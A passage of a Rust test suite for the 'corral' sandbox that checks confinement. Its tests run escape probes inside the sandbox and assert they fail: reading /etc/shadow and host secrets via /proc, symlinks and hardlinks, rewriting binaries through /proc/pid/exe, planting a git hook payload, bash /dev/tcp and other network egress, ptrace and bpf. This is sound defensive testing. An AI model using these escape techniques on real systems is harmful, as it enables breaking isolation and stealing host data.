            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        !host.is_empty(),
        "the host's /root is empty: this test proves nothing"
    );
    let out = run(world.sh("ls -A /root 2>/dev/null; ls -A ~root 2>/dev/null")).await;
    let stdout = probe_output(&out);
    let seen: BTreeSet<String> = stdout.lines().map(str::to_owned).collect();
    let leaked: Vec<&String> = host.intersection(&seen).collect();
    assert!(
        leaked.is_empty(),
        "entries of the host's /root are visible: {leaked:?}"
    );
}

#[tokio::test]
async fn reading_a_host_tempdir_not_in_read_paths_fails() {
    let world = World::new();
    let out = run(world.sh(r#"
leak secret cat "$HT/secret"
leak list sh -c 'ls -A "$HT" | grep -x secret'
leak find sh -c 'f=$(find / -xdev -name secret 2>/dev/null); [ -n "$f" ] && cat $f'
"#))
    .await;
    assert_denied(&out, &["secret", "list", "find"]);
    assert_no_secret(&out);
}

#[tokio::test]
async fn reading_a_host_directory_outside_tmp_fails() {
    let world = World::new();
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR")).join("Cargo.toml");
    let out = run(with_env(
        world.sh(r#"
leak secret cat "$HF/secret"
leak sources cat "$MANIFEST"
leak list sh -c 'ls -A "$HF" | grep -x secret'
"#),
        "MANIFEST",
        manifest.display(),
    ))
    .await;
    assert_denied(&out, &["secret", "sources", "list"]);
    assert_no_secret(&out);
}

#[tokio::test]
async fn reading_corrals_state_dir_next_to_the_workspace_fails() {
    // corral's state dir defaults to `.corral` next to its config, i.e. beside the workspace.
    let parent = tempfile::tempdir().unwrap();
    let state = parent.path().join(".corral");
    std::fs::create_dir(&state).unwrap();
    write(&state.join("token"), SECRET);
    write(&state.join("audit.db"), SECRET);
    let work = parent.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let world = World::new();
    let mut req = world.sh(r#"
leak token cat ../.corral/token
leak audit cat "$STATE/audit.db"
leak list sh -c 'ls -A "$STATE" | grep .'
"#);
    req.cwd = work.clone();
    req.write_paths = vec![work];
    req.env.push(("STATE".into(), state.display().to_string()));
    let out = run(req).await;
    assert_denied(&out, &["token", "audit", "list"]);
    assert_no_secret(&out);
}

#[tokio::test]
async fn a_sibling_sharing_a_read_roots_name_prefix_is_not_readable() {
    let base = tempfile::tempdir().unwrap();
    let data = base.path().join("data");
    std::fs::create_dir(&data).unwrap();
    write(&data.join("ok"), "fine");
    for sibling in ["data-secret", "database"] {
        std::fs::create_dir(base.path().join(sibling)).unwrap();
        write(&base.path().join(sibling).join("secret"), SECRET);
    }
    let world = World::new();
    let mut req = world.sh(r#"
leak control-read cat "$D/ok"
leak dash cat "$D-secret/secret"
leak base cat "${D}base/secret"
"#);
    req.read_paths = vec![data.clone()];
    req.env.push(("D".into(), data.display().to_string()));
    let out = run(req).await;
    let stdout = assert_denied(&out, &["dash", "base"]);
    assert!(
        stdout.contains("control-read: ALLOWED fine"),
        "the read root itself must be readable: {}",
        describe(&out)
    );
    assert_no_secret(&out);
}

#[tokio::test]
async fn dot_dot_from_a_writable_root_does_not_reach_its_parent() {
    let parent = tempfile::tempdir().unwrap();
    write(&parent.path().join("secret"), SECRET);
    let work = parent.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let world = World::new();
    let mut req = world.sh(r#"
leak dotdot cat ../secret
leak abs cat "$W/../secret"
leak cd sh -c 'cd .. && cat secret'
leak deep cat ../../../../../../../../..$PARENT/secret
"#);
    req.cwd = work.clone();
    req.write_paths = vec![work.clone()];
    req.env.retain(|(k, _)| k != "W");
    req.env.push(("W".into(), work.display().to_string()));
    req.env
        .push(("PARENT".into(), parent.path().display().to_string()));
    let out = run(req).await;
    assert_denied(&out, &["dotdot", "abs", "cd", "deep"]);
    assert_no_secret(&out);
}

// ---------------------------------------------------------------------------------------------
// /proc, magic links, symlinks and hardlinks
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn proc_self_root_does_not_lead_to_the_host() {
    let world = World::new();
    let out = run(world.sh(r#"
leak self-root-tmp cat "/proc/self/root$HT/secret"
leak self-root-far cat "/proc/self/root$HF/secret"
leak self-root-shadow sh -c 'cat /proc/self/root/etc/shadow | grep -v "^root:\*" | grep .'
leak thread-self cat "/proc/thread-self/root$HF/secret"
"#))
    .await;
    assert_denied(
        &out,
        &[
            "self-root-tmp",
            "self-root-far",
            "self-root-shadow",
            "thread-self",
        ],
    );
    assert_no_secret(&out);
}

#[tokio::test]
async fn proc_1_does_not_lead_to_the_host() {
    let world = World::new();
    let host_init = std::fs::read("/proc/1/cmdline").unwrap_or_default();
    let host_init = String::from_utf8_lossy(&host_init).replace('\0', " ");
    let out = run(world.sh(r#"
leak root cat "/proc/1/root$HF/secret"
leak cwd cat "/proc/1/cwd/../../..$HF/secret"
leak host-env sh -c 'tr "\0" "\n" < /proc/1/environ | grep -E "^(CARGO|HOME|RUST)"'
printf 'init: '; tr '\0' ' ' < /proc/1/cmdline; echo
"#))
    .await;
    let stdout = assert_denied(&out, &["root", "cwd", "host-env"]);
    assert_no_secret(&out);
    assert!(
        host_init.trim().is_empty() || !stdout.contains(host_init.trim()),
        "the host's init is pid 1 inside: {stdout}"
    );
}

#[tokio::test]
async fn a_host_file_descriptor_leaked_without_cloexec_is_not_usable_inside() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let before = world.host_state();
    // Opened without O_CLOEXEC, as a careless library in corral might: every child inherits it
    // unless the backend closes what it does not pass.
    let secret_fd = rustix::fs::open(
        world.hf().join("secret"),
        rustix::fs::OFlags::RDONLY,
        rustix::fs::Mode::empty(),
    )
    .unwrap();
    let canary_fd = rustix::fs::open(
        world.hf().join("canary"),
        rustix::fs::OFlags::RDWR,
        rustix::fs::Mode::empty(),
    )
    .unwrap();
    let out = run(world.py(r#"
fds = sorted(int(f) for f in os.listdir('/proc/self/fd'))
print('fds:', fds)
def leak():
    found = []
    for fd in fds:
        if fd <= 2:
            continue
        try:
            target = os.readlink(f'/proc/self/fd/{fd}')
        except OSError:
            continue
        try:
            data = os.pread(fd, 4096, 0)
        except OSError:
            data = b''
        if b'corral-escape' in data:
            found.append((fd, target, 'read'))
        try:
            os.pwrite(fd, b'pwned', 0)
            found.append((fd, target, 'write'))
        except OSError:
            pass
        try:
            with open(f'/proc/self/fd/{fd}', 'rb') as f:
                if b'corral-escape' in f.read():
                    found.append((fd, target, 'reopen'))
        except OSError:
            pass
    if found:
        return found
    raise PermissionError(errno.EBADF, 'no inherited host file is usable')
attempt('inherited-fds', leak)
"#))
    .await;
    drop((secret_fd, canary_fd));
    assert_denied(&out, &["inherited-fds"]);
    assert_no_secret(&out);
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn magic_links_cannot_reopen_a_read_only_file_for_writing() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let before = world.host_state();
    let out = run(world.py(
        r#"
ro = os.environ['RO']
fd = os.open(ro + '/data', os.O_RDONLY)
attempt('reopen-fd-rw', lambda: os.write(os.open(f'/proc/self/fd/{fd}', os.O_WRONLY), b'pwned'))
attempt('reopen-thread-self', lambda: os.write(os.open(f'/proc/thread-self/fd/{fd}', os.O_WRONLY), b'pwned'))
path_fd = os.open(ro + '/data', os.O_PATH)
attempt('reopen-opath', lambda: os.write(os.open(f'/proc/self/fd/{path_fd}', os.O_WRONLY), b'pwned'))
dfd = os.open(ro, os.O_RDONLY | os.O_DIRECTORY)
attempt('create-via-dirfd', lambda: os.write(os.open('new', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=dfd), b'pwned'))
attempt('create-via-fd-dir', lambda: os.write(os.open(f'/proc/self/fd/{dfd}/new2', os.O_WRONLY | os.O_CREAT, 0o644), b'pwned'))
"#,
    ))
    .await;
    assert_denied(
        &out,
        &[
            "reopen-fd-rw",
            "reopen-thread-self",
            "reopen-opath",
            "create-via-dirfd",
            "create-via-fd-dir",
        ],
    );
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn no_executable_behind_proc_exe_can_be_opened_for_writing() {
    // The runc CVE-2019-5736 shape: reach a host binary through /proc/<pid>/exe and rewrite it.
    // The probe only opens (never truncates, never writes).
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let helper = Path::new(env!("CARGO_BIN_EXE_corral-sandbox-helper"));
    let watched = [
        helper,
        Path::new("/usr/bin/python3.11"),
        Path::new("/usr/bin/dash"),
    ];
    let before: Vec<Snapshot> = watched.iter().map(|p| snapshot(p)).collect();
    let out = run(world.py(r#"
def open_exes():
    opened = []
    for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['self']:
        try:
            fd = os.open(f'/proc/{pid}/exe', os.O_WRONLY)
        except OSError:
            pass
        else:
            opened.append(pid)
            os.close(fd)
        try:
            pfd = os.open(f'/proc/{pid}/exe', os.O_PATH)
        except OSError:
            continue
        time.sleep(0.05)
        try:
            fd = os.open(f'/proc/self/fd/{pfd}', os.O_WRONLY)
        except OSError:
            pass
        else:
            opened.append(f'{pid} via O_PATH')
            os.close(fd)
        os.close(pfd)
    if opened:
        return opened
    raise PermissionError(errno.ETXTBSY, 'no executable opened for writing')
attempt('proc-exe-write', open_exes)
"#))
    .await;
    assert_denied(&out, &["proc-exe-write"]);
    for (p, snap) in watched.iter().zip(&before) {
        assert_unchanged(snap, p, &p.display().to_string());
    }
}

#[tokio::test]
async fn a_symlink_planted_in_a_writable_root_cannot_read_outside() {
    let world = World::new();
    std::os::unix::fs::symlink(world.hf().join("secret"), world.w().join("to-secret")).unwrap();
    std::os::unix::fs::symlink(world.ht(), world.w().join("to-dir")).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", world.w().join("to-shadow")).unwrap();
    std::os::unix::fs::symlink("../../../../..", world.w().join("to-up")).unwrap();
    let out = run(world.sh(r#"
leak file cat to-secret
leak dir cat to-dir/secret
leak shadow sh -c 'cat to-shadow | grep -v "^root:\*" | grep .'
leak up sh -c "cat to-up$HF/secret"
"#))
    .await;
    assert_denied(&out, &["file", "dir", "shadow", "up"]);
    assert_no_secret(&out);
}

#[tokio::test]
async fn a_symlink_planted_in_a_writable_root_cannot_write_outside() {
    let world = World::new();
    std::os::unix::fs::symlink(world.hf().join("canary"), world.w().join("to-canary")).unwrap();
    std::os::unix::fs::symlink(world.ht(), world.w().join("to-dir")).unwrap();
    std::os::unix::fs::symlink(world.ro().join("data"), world.w().join("to-ro")).unwrap();
    let before = world.host_state();
    let out = run(world.sh(r#"
attempt file write_to to-canary
attempt dir write_to to-dir/new
attempt dir-canary append_to to-dir/canary
attempt ro write_to to-ro
"#))
    .await;
    assert_denied(&out, &["file", "dir", "dir-canary", "ro"]);
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn a_symlink_planted_in_a_read_only_root_cannot_read_outside() {
    let world = World::new();
    std::os::unix::fs::symlink(world.hf().join("secret"), world.ro().join("link")).unwrap();
    std::os::unix::fs::symlink(world.ht(), world.ro().join("dirlink")).unwrap();
    let out = run(world.sh(r#"
leak file cat "$RO/link"
leak dir cat "$RO/dirlink/secret"
"#))
    .await;
    assert_denied(&out, &["file", "dir"]);
    assert_no_secret(&out);
}

#[tokio::test]
async fn a_hardlink_to_a_read_only_file_cannot_be_written_through() {
    let world = World::new();
    let before = world.host_state();
    let out = run(world.sh(r#"
attempt link-and-write sh -c 'ln "$RO/data" hl && printf pwned > hl'
attempt link-and-append sh -c 'ln "$RO/data" hl2 && printf pwned >> hl2'
"#))
    .await;
    assert_denied(&out, &["link-and-write", "link-and-append"]);
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn a_hardlink_to_a_protected_hook_cannot_be_written_through() {
    let world = world_with_metadata();
    let hooks = world.w().join(".git/hooks");
    let before = snapshot(&hooks);
    let out = run(world.sh(
        r##"
attempt link-and-write sh -c 'ln .git/hooks/pre-commit hl && printf "#!/bin/sh\ntouch /tmp/pwned\n" > hl'
"##,
    ))
    .await;
    assert_denied(&out, &["link-and-write"]);
    assert_unchanged(&before, &hooks, ".git/hooks");
}

#[tokio::test]
async fn a_hardlink_to_a_host_file_outside_the_scope_cannot_be_made() {
    let world = World::new();
    let before = world.host_state();
    let out = run(world.sh(r#"
attempt tmp ln "$HT/canary" hl-tmp
attempt far ln "$HF/canary" hl-far
attempt shadow ln /etc/shadow hl-shadow
"#))
    .await;
    // /etc/shadow may be bound read-only; a link across mounts must still fail (EXDEV).
    assert_denied(&out, &["tmp", "far", "shadow"]);
    world.assert_host_unchanged(&before);
    for name in ["hl-tmp", "hl-far", "hl-shadow"] {
        assert!(!world.w().join(name).exists(), "{name} was created");
    }
}

#[tokio::test]
async fn a_root_replaced_by_a_symlink_in_an_earlier_run_does_not_expose_its_target() {
    // Run 1 may write its root: it replaces `data` and `out` by symlinks to host directories.
    // Run 2 is granted `data` read-only and `out` writable, and tries the symlinks' targets.
    let world = World::new();
    std::fs::create_dir(world.w().join("data")).unwrap();
    std::fs::create_dir(world.w().join("out")).unwrap();
    let out = run(world.sh("rm -rf data out && ln -s \"$HF\" data && ln -s \"$HT\" out")).await;
    probe_output(&out);
    assert!(
        world.w().join("data").is_symlink() && world.w().join("out").is_symlink(),
        "run 1 could not plant the symlinks (the writable root must be writable): {}",
        describe(&out)
    );
    let mut req = world.sh(r#"
leak read-via-link cat "$W/data/secret"
leak read-target cat "$HF/secret"
attempt write-via-link write_to "$W/out/canary"
attempt write-target write_to "$HT/canary"
"#);
    req.read_paths = vec![world.w().join("data")];
    req.write_paths = vec![world.w().join("out")];
    req.cwd = PathBuf::from("/");
    let before = world.host_state();
    match backend().run(req).await {
        // Refusing to bind a symlinked root is the best answer.
        Err(e) => eprintln!("run 2 refused: {e}"),
        Ok(out) => {
            assert_denied(
                &out,
                &[
                    "read-via-link",
                    "read-target",
                    "write-via-link",
                    "write-target",
                ],
            );
            assert_no_secret(&out);
        }
    }
    world.assert_host_unchanged(&before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_root_swapped_for_a_symlink_mid_run_never_binds_the_host_target() {
    // A race against the backend's set-up: while runs start with `sub` as their root, the host
    // side keeps exchanging `sub` (a real directory) with a symlink to a host directory.
    let world = World::new();
    let sub = world.w().join("sub");
    let alt = world.w().join("alt");
    std::fs::create_dir(&sub).unwrap();
    write(&sub.join("inside"), "inside");
    std::os::unix::fs::symlink(world.hf(), &alt).unwrap();
    let before = world.host_state();
    let stop = Arc::new(AtomicBool::new(false));
    let swapper = {
        let (stop, sub, alt) = (Arc::clone(&stop), sub.clone(), alt.clone());
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(Ordering::Relaxed) {
                let r = rustix::fs::renameat_with(
                    rustix::fs::CWD,
                    &sub,
                    rustix::fs::CWD,
                    &alt,
                    rustix::fs::RenameFlags::EXCHANGE,
                );
                if r.is_ok() {
                    swaps += 1;
                }
                std::thread::yield_now();
            }
            swaps
        })
    };
    let mut ran = 0;
    let mut refused = 0;
    for _ in 0..40 {
        let mut req = world.sh(r#"
leak read cat "$S/secret"
attempt write write_to "$S/canary"
echo "--- what the run sees at \$S"; ls -la "$S" 2>&1; readlink -f "$S/secret"; cat /proc/self/mountinfo | cut -d" " -f4,5,6
"#);
        req.env.push(("S".into(), sub.display().to_string()));
        req.read_paths = vec![sub.clone()];
        req.write_paths = vec![sub.clone()];
        req.cwd = PathBuf::from("/");
        match backend().run(req).await {
            Err(_) => refused += 1,
            Ok(out) => {
                ran += 1;
                assert_no_secret(&out);
                assert_unchanged(&before[2].1, world.hf(), "host dir behind the symlink");
            }
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    // Put the real directory back where it was before checking the host.
    if sub.is_symlink() {
        rustix::fs::renameat_with(
            rustix::fs::CWD,
            &sub,
            rustix::fs::CWD,
            &alt,
            rustix::fs::RenameFlags::EXCHANGE,
        )
        .unwrap();
    }
    eprintln!("{ran} runs, {refused} refused, {swaps} swaps");
    assert!(swaps > 0, "the race never happened");
    world.assert_host_unchanged(&before);
}

// ---------------------------------------------------------------------------------------------
// Network egress with network none
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn tcp_to_a_host_listener_on_loopback_fails_and_the_listener_sees_nothing() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let listener = tcp_listener("127.0.0.1:0");
    let addr = listener.local_addr().unwrap();
    let out = run(world.py(&py_connect("tcp-loopback", "AF_INET", addr))).await;
    assert_denied(&out, &["tcp-loopback"]);
    assert_no_tcp_connection(&listener);
}

#[tokio::test]
async fn tcp_to_a_host_listener_on_ipv6_loopback_fails() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let listener = tcp_listener("[::1]:0");
    let addr = listener.local_addr().unwrap();
    let out = run(world.py(&py_connect("tcp6-loopback", "AF_INET6", addr))).await;
    assert_denied(&out, &["tcp6-loopback"]);
    assert_no_tcp_connection(&listener);
}

#[tokio::test]
async fn tcp_to_the_hosts_external_address_fails() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let ip = host_external_ip().expect("the host has a non-loopback IPv4 address");
    let listener = tcp_listener("0.0.0.0:0");
    let addr = SocketAddr::new(ip, listener.local_addr().unwrap().port());
    let out = run(world.py(&py_connect("tcp-external", "AF_INET", addr))).await;
    assert_denied(&out, &["tcp-external"]);
    assert_no_tcp_connection(&listener);
}

#[tokio::test]
async fn bash_dev_tcp_to_a_host_listener_fails() {
    if !host_has(BASH) {
        return;
    }
    let world = World::new();
    let listener = tcp_listener("0.0.0.0:0");
    let port = listener.local_addr().unwrap().port();
    let ip = host_external_ip().map_or("127.0.0.1".to_owned(), |ip| ip.to_string());
    let out = run(with_env(
        with_env(
            world.sh(r#"
attempt dev-tcp-loopback timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT && echo escaped >&3'
attempt dev-tcp-external timeout 5 bash -c 'exec 3<>/dev/tcp/$IP/$PORT && echo escaped >&3'
"#),
            "PORT",
            port,
        ),
        "IP",
        ip,
    ))
    .await;
    assert_denied(&out, &["dev-tcp-loopback", "dev-tcp-external"]);
    assert_no_tcp_connection(&listener);
}

#[tokio::test]
async fn udp_to_a_host_socket_fails_and_the_socket_receives_nothing() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let sock = UdpSocket::bind("0.0.0.0:0").unwrap();
    sock.set_nonblocking(true).unwrap();
    let port = sock.local_addr().unwrap().port();
    let ip = host_external_ip().map_or("127.0.0.1".to_owned(), |ip| ip.to_string());
    let out = run(world.py(&format!(
        r#"
def send(ip):
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(5):
            s.sendto(b'escaped', (ip, {port}))
        return 'sent'
    return go
attempt('udp-loopback', send('127.0.0.1'))
attempt('udp-external', send({ip:?}))
"#
    )))
    .await;
    // `sendto` on a loopback-only network may "succeed" into the sandbox's own loopback; what
    // matters is that nothing arrives on the host.
    probe_output(&out);
    std::thread::sleep(Duration::from_millis(200));
    let mut buf = [0u8; 64];
    match sock.recv_from(&mut buf) {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Ok((_, peer)) => panic!(
            "the host UDP socket received a datagram from {peer}: {}",
            describe(&out)
        ),
        Err(e) => panic!("recv failed oddly: {e}"),
    }
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains("udp-external: ALLOWED"),
        "a datagram to the host's external address left the sandbox: {stdout}"
    );
}

#[tokio::test]
async fn dns_to_public_and_host_resolvers_gets_no_answer() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let resolver = std::fs::read_to_string("/etc/resolv.conf")
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("nameserver").map(|s| s.trim().to_owned()))
        .unwrap_or_else(|| "127.0.0.53".into());
    let out = run(world.py(&format!(
        r#"
# A query for example.com, type A.
query = bytes.fromhex('abcd01000001000000000000076578616d706c6503636f6d0000010001')
def ask(server):
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(query, (server, 53))
        return s.recvfrom(512)
    return go
attempt('dns-8.8.8.8', ask('8.8.8.8'))
attempt('dns-host-resolver', ask({resolver:?}))
attempt('getaddrinfo', lambda: socket.getaddrinfo('example.com', 80))
"#
    )))
    .await;
    assert_denied(&out, &["dns-8.8.8.8", "dns-host-resolver", "getaddrinfo"]);
}

#[tokio::test]
async fn icmp_echo_to_the_outside_gets_no_reply() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let ip = host_external_ip().map_or("192.0.2.1".to_owned(), |ip| ip.to_string());
    let has_ping = Path::new("/usr/bin/ping").exists() || Path::new("/bin/ping").exists();
    let ping = if has_ping {
        format!("attempt('ping', lambda: run_ok(['ping', '-c1', '-W2', {ip:?}]))\n")
    } else {
        String::new()
    };
    let out = run(world.py(&format!(
        r#"
import struct
def checksum(b):
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    return (~(s + (s >> 16))) & 0xffff
def echo(kind, dst):
    def go():
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.settimeout(2)
        hdr = struct.pack('!BBHHH', 8, 0, 0, 0x1234, 1)
        pkt = struct.pack('!BBHHH', 8, 0, checksum(hdr + b'corral!!'), 0x1234, 1) + b'corral!!'
        s.sendto(pkt, (dst, 0))
        return s.recvfrom(1024)
    return go
attempt('icmp-raw-public', echo(socket.SOCK_RAW, '8.8.8.8'))
attempt('icmp-raw-host', echo(socket.SOCK_RAW, {ip:?}))
attempt('icmp-dgram-public', echo(socket.SOCK_DGRAM, '8.8.8.8'))
attempt('icmp-dgram-host', echo(socket.SOCK_DGRAM, {ip:?}))
{ping}
"#
    )))
    .await;
    assert_denied(
        &out,
        &[
            "icmp-raw-public",
            "icmp-raw-host",
            "icmp-dgram-public",
            "icmp-dgram-host",
        ],
    );
}

#[tokio::test]
async fn opening_raw_and_packet_sockets_is_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
attempt('raw-icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt('raw-tcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
attempt('raw-ip', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt('raw-ipv6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
attempt('netlink-raw-audit', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9))
"#))
    .await;
    assert_denied(
        &out,
        &["raw-icmp", "raw-tcp", "raw-ip", "raw-ipv6", "packet"],
    );
}

#[tokio::test]
async fn vsock_sockets_are_denied() {
    // On this Firecracker guest the VM's control plane listens on vsock, which no network
    // namespace isolates. The probe only creates the socket; it never connects.
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
attempt('vsock-stream', lambda: socket.socket(40, socket.SOCK_STREAM))
attempt('vsock-dgram', lambda: socket.socket(40, socket.SOCK_DGRAM))
attempt('vsock-seqpacket', lambda: socket.socket(40, socket.SOCK_SEQPACKET))
attempt('dev-vsock', lambda: os.open('/dev/vsock', os.O_RDWR))
"#))
    .await;
    assert_denied(
        &out,
        &[
            "vsock-stream",
            "vsock-dgram",
            "vsock-seqpacket",
            "dev-vsock",
        ],
    );
}

#[tokio::test]
async fn a_host_unix_socket_outside_the_scope_is_unreachable() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let path = world.ht().join("host.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let out = run(with_env(
        world.py(r#"
def go():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(os.environ['SOCK'])
    s.sendall(b'escaped')
attempt('unix-outside', go)
"#),
        "SOCK",
        path.display(),
    ))
    .await;
    assert_denied(&out, &["unix-outside"]);
    assert_no_unix_connection(&listener);
}

#[tokio::test]
async fn a_host_unix_socket_inside_a_read_only_root_is_unreachable() {
    // A socket file in a bound directory is the same inode inside: without a filter, connect()
    // reaches the host's listener across the network namespace (the path is all it needs).
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let path = world.ro().join("agent.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let out = run(with_env(
        world.py(r#"
def go(kind):
    def f():
        s = socket.socket(socket.AF_UNIX, kind)
        s.settimeout(3)
        s.connect(os.environ['SOCK'])
        s.sendall(b'escaped')
        return 'connected'
    return f
attempt('unix-in-read-root-stream', go(socket.SOCK_STREAM))
"#),
        "SOCK",
        path.display(),
    ))
    .await;
    assert_denied(&out, &["unix-in-read-root-stream"]);
    assert_no_unix_connection(&listener);
}

#[tokio::test]
async fn a_host_abstract_unix_socket_is_unreachable() {
    use std::os::linux::net::SocketAddrExt;
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let name = format!("corral-escape-{}", nonce());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let out = run(with_env(
        world.py(r#"
def go():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect('\0' + os.environ['NAME'])
    s.sendall(b'escaped')
attempt('abstract-unix', go)
"#),
        "NAME",
        &name,
    ))
    .await;
    assert_denied(&out, &["abstract-unix"]);
    assert_no_unix_connection(&listener);
}

#[tokio::test]
async fn the_only_network_interface_inside_is_loopback() {
    let world = World::new();
    let out = run(world.sh(r#"
echo "ifaces: $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\n' ' ')"
leak routes sh -c 'tail -n +2 /proc/net/route | grep .'
"#))
    .await;
    let stdout = assert_denied(&out, &["routes"]);
    let ifaces = stdout
        .lines()
        .find_map(|l| l.strip_prefix("ifaces: "))
        .unwrap_or_default()
        .trim();
    assert!(
        ifaces == "lo" || ifaces.is_empty(),
        "interfaces other than loopback: `{ifaces}`"
    );
}

// ---------------------------------------------------------------------------------------------
// Syscalls
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn ptrace_is_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let strace = if Path::new(STRACE).exists() {
        format!(
            "attempt('strace', lambda: run_ok([{STRACE:?}, '-f', '-o', '/dev/null', '/bin/true']))
"
        )
    } else {
        assert!(!ci(), "`{STRACE}` is missing and CI=true");
        eprintln!("notice: no strace on this host; probing ptrace through python only");
        String::new()
    };
    let out = run(world.py(&format!(
        r#"
syscall('ptrace-traceme', 'ptrace', 0, 0, 0, 0)
def attach_parent():
    ppid = os.getppid()
    r, e = raw('ptrace', 16, ppid, 0, 0)
    if r == 0:
        os.waitpid(ppid, 0x40000000)
        raw('ptrace', 17, ppid, 0, 0)
    report('ptrace-attach', r == 0, f'errno={{errname(e)}}')
in_child('ptrace-attach', attach_parent)
def seize_parent():
    ppid = os.getppid()
    r, e = raw('ptrace', 0x4206, ppid, 0, 0)
    if r == 0:
        raw('ptrace', 17, ppid, 0, 0)
    report('ptrace-seize', r == 0, f'errno={{errname(e)}}')
in_child('ptrace-seize', seize_parent)
{strace}
"#
    )))
    .await;
    let mut attempts = vec!["ptrace-traceme", "ptrace-attach", "ptrace-seize"];
    if Path::new(STRACE).exists() {
        attempts.push("strace");
    }
    assert_denied(&out, &attempts);
}

#[tokio::test]
async fn process_vm_readv_and_writev_are_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(
        r#"
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
target = ctypes.create_string_buffer(b'corral-probe', 16)
buf = ctypes.create_string_buffer(16)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 16)
remote = iovec(ctypes.cast(target, ctypes.c_void_p), 16)
def readv():
    r, e = raw('process_vm_readv', os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    report('process_vm_readv', r != -1, f'ret={r} errno={errname(e)}')
def writev():
    r, e = raw('process_vm_writev', os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    report('process_vm_writev', r != -1, f'ret={r} errno={errname(e)}')
in_child('process_vm_readv', readv)
in_child('process_vm_writev', writev)
"#,
    ))
    .await;
    assert_denied(&out, &["process_vm_readv", "process_vm_writev"]);
}

#[tokio::test]
async fn io_uring_setup_is_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
params = ctypes.create_string_buffer(120)
syscall('io_uring_setup', 'io_uring_setup', 8, params)
"#))
    .await;
    assert_denied(&out, &["io_uring_setup"]);
}

#[tokio::test]
async fn bpf_is_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
attr = (ctypes.c_uint32 * 32)()
attr[0], attr[1], attr[2], attr[3] = 2, 4, 4, 1   # BPF_MAP_TYPE_ARRAY, key 4, value 4, 1 entry
syscall('bpf-map-create', 'bpf', 0, attr, 128)
prog = (ctypes.c_uint32 * 32)()
syscall('bpf-prog-load', 'bpf', 5, prog, 128)
"#))
    .await;
    assert_denied(&out, &["bpf-map-create", "bpf-prog-load"]);
}

#[tokio::test]
async fn keyctl_and_add_key_are_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
buf = ctypes.create_string_buffer(4096)
